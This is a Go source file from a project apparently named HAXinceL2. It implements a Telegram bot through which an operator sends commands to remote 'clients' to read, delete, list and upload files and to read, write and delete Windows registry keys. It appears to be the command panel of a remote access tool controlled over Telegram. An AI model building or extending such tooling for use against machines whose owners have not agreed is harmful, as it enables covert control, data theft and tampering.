@@ -0,0 +1,247 @@
+package telegram
+
+import (
+	"errors"
+	"fmt"
+	"io"
+	"net/http"
+	"strings"
+
+	"github.com/E2klime/HAXinceL2/internal"
+	"github.com/E2klime/HAXinceL2/internal/protocol"
+	tgbotapi "github.com/go-telegram-bot-api/telegram-bot-api/v5"
+)
+
+// Bots may only download files up to 20 MB through the Bot API.
+const maxUploadSize = 20 << 20
+
+type commandSpec struct {
+	usage   string
+	minArgs int
+	maxArgs int
+	build   func(args []string) *protocol.Message
+}
+
+var clientCommands = map[string]commandSpec{
+	"file_read": {
+		usage: "/file_read <path>", minArgs: 1, maxArgs: 1,
+		build: func(args []string) *protocol.Message {
+			return protocol.NewFileRead(protocol.FileReadPayload{Path: args[0]})
+		},
+	},
+	"file_delete": {
+		usage: "/file_delete <path>", minArgs: 1, maxArgs: 1,
+		build: func(args []string) *protocol.Message {
+			return protocol.NewFileDelete(protocol.FileDeletePayload{Path: args[0]})
+		},
+	},
+	"file_list": {
+		usage: "/file_list <path>", minArgs: 1, maxArgs: 1,
+		build: func(args []string) *protocol.Message {
+			return protocol.NewFileList(protocol.FileListPayload{Path: args[0]})
+		},
+	},
+	"reg_read": {
+		usage: "/reg_read <key> <value>", minArgs: 2, maxArgs: 2,
+		build: func(args []string) *protocol.Message {
+			return protocol.NewRegRead(protocol.RegistryReadPayload{Key: args[0], Value: args[1]})
+		},
+	},
+	"reg_write": {
+		usage: "/reg_write <key> <value> <data> <type>", minArgs: 4, maxArgs: 4,
+		build: func(args []string) *protocol.Message {
+			return protocol.NewRegWrite(protocol.RegistryWritePayload{Key: args[0], Value: args[1], Data: args[2], DataType: args[3]})
+		},
+	},
+	"reg_delete": {
+		usage: "/reg_delete <key> [value]", minArgs: 1, maxArgs: 2,
+		build: func(args []string) *protocol.Message {
+			payload := protocol.RegistryDeletePayload{Key: args[0]}
+			if len(args) > 1 {
+				payload.Value = args[1]
+			}
+			return protocol.NewRegDelete(payload)
+		},
+	},
+	"reg_list": {
+		usage: "/reg_list <key>", minArgs: 1, maxArgs: 1,
+		build: func(args []string) *protocol.Message {
+			return protocol.NewRegList(protocol.RegistryListPayload{Key: args[0]})
+		},
+	},
+}
+
+// splitArgs splits a command line into arguments. Single and double quotes
+// group words containing spaces. A backslash only escapes a following quote,
+// so Windows paths and registry keys can be typed as-is.
+func splitArgs(s string) ([]string, error) {
+	var (
+		args    []string
+		current strings.Builder
+		quote   rune
+		inArg   bool
+	)
+
+	runes := []rune(s)
+	for i := 0; i < len(runes); i++ {
+		r := runes[i]
+
+		if r == '\\' && i+1 < len(runes) && (runes[i+1] == '"' || runes[i+1] == '\'') {
+			current.WriteRune(runes[i+1])
+			inArg = true
+			i++
+			continue
+		}
+
+		switch {
+		case quote != 0:
+			if r == quote {
+				quote = 0
+			} else {
+				current.WriteRune(r)
+			}
+		case r == '"' || r == '\'':
+			quote = r
+			inArg = true
+		case r == ' ' || r == '\t' || r == '\n':
+			if inArg {
+				args = append(args, current.String())
+				current.Reset()
+				inArg = false
+			}
+		default:
+			current.WriteRune(r)
+			inArg = true
+		}
+	}
+
+	if quote != 0 {
+		return nil, errors.New("unterminated quote")
+	}
+	if inArg {
+		args = append(args, current.String())
+	}
+
+	return args, nil
+}
+
+func (b *Bot) handleClientCommand(op *internal.Operator, message *tgbotapi.Message, spec commandSpec) {
+	chatID := message.Chat.ID
+
+	clientID, ok := b.selectedClient(messageSession(message))
+	if !ok {
+		b.sendText(chatID, "❌ Сначала выберите клиента: /clients")
+		return
+	}
+
+	args, err := splitArgs(message.CommandArguments())
+	if err != nil {
+		b.sendText(chatID, fmt.Sprintf("❌ %v\nИспользование: %s", err, spec.usage))
+		return
+	}
+
+	if len(args) < spec.minArgs || len(args) > spec.maxArgs {
+		b.sendText(chatID, fmt.Sprintf("Использование: %s", spec.usage))
+		return
+	}
+
+	msg := spec.build(args)
+	if err := b.dispatch(op, chatID, clientID, msg); err != nil {
+		b.reportDispatchError(chatID, err)
+		return
+	}
+
+	b.sendText(chatID, fmt.Sprintf("⏳ %s → %s", msg.Type, clientID))
+}
+
+func (b *Bot) handleFileWriteCommand(message *tgbotapi.Message) {
+	b.sendText(message.Chat.ID, "📤 Отправьте файл документом с подписью:\n/file_write <path>\n\nЕсли путь заканчивается на / или \\, будет использовано имя файла.")
+}
+
+// handleDocumentUpload turns a document sent with a "/file_write <path>"
+// caption into a chunked upload to the selected client.
+func (b *Bot) handleDocumentUpload(op *internal.Operator, message *tgbotapi.Message) {
+	chatID := message.Chat.ID
+	doc := message.Document
+
+	command, arguments := captionCommand(message.Caption)
+	if command != "file_write" {
+		b.sendText(chatID, "ℹ️ Чтобы записать файл на клиента, добавьте подпись: /file_write <path>")
+		return
+	}
+
+	clientID, ok := b.selectedClient(messageSession(message))
+	if !ok {
+		b.sendText(chatID, "❌ Сначала выберите клиента: /clients")
+		return
+	}
+
+	args, err := splitArgs(arguments)
+	if err != nil || len(args) != 1 {
+		b.sendText(chatID, "Использование: /file_write <path> (в подписи к документу)")
+		return
+	}
+
+	path := args[0]
+	if strings.HasSuffix(path, "/") || strings.HasSuffix(path, "\\") {
+		path += doc.FileName
+	}
+
+	if doc.FileSize > maxUploadSize {
+		b.sendText(chatID, fmt.Sprintf("❌ Файл слишком большой: %s (максимум %s)", formatSize(int64(doc.FileSize)), formatSize(maxUploadSize)))
+		return
+	}
+
+	// Fetching the document from Telegram must not hold up the update loop.
+	go func() {
+		if err := b.uploadDocument(op, chatID, clientID, doc.FileID, path); err != nil {
+			b.sendText(chatID, fmt.Sprintf("❌ %v", err))
+		}
+	}()
+}
+
+// captionCommand splits a caption such as "/file_write@bot <path>" into the
+// command and its arguments the way Message.Command and CommandArguments
+// split message text.
+func captionCommand(caption string) (command, args string) {
+	caption = strings.TrimSpace(caption)
+	if !strings.HasPrefix(caption, "/") {
+		return "", ""
+	}
+
+	command = caption[1:]
+	if i := strings.IndexAny(command, " \t\n"); i != -1 {
+		command, args = command[:i], strings.TrimSpace(command[i:])
+	}
+	if i := strings.Index(command, "@"); i != -1 {
+		command = command[:i]
+	}
+	return command, args
+}
+
+func (b *Bot) downloadDocument(fileID string, w io.Writer) error {
+	url, err := b.api.GetFileDirectURL(fileID)
+	if err != nil {
+		return err
+	}
+
+	resp, err := http.Get(url)
+	if err != nil {
+		return err
+	}
+	defer resp.Body.Close()
+
+	if resp.StatusCode != http.StatusOK {
+		return fmt.Errorf("unexpected status: %s", resp.Status)
+	}
+
+	// FileSize is what Telegram reported; count what actually arrives.
+	n, err := io.Copy(w, io.LimitReader(resp.Body, maxUploadSize+1))
+	if err != nil {
+		return err
+	}
+	if n > maxUploadSize {
+		return fmt.Errorf("файл больше %s", formatSize(maxUploadSize))
+	}
+	return nil
+}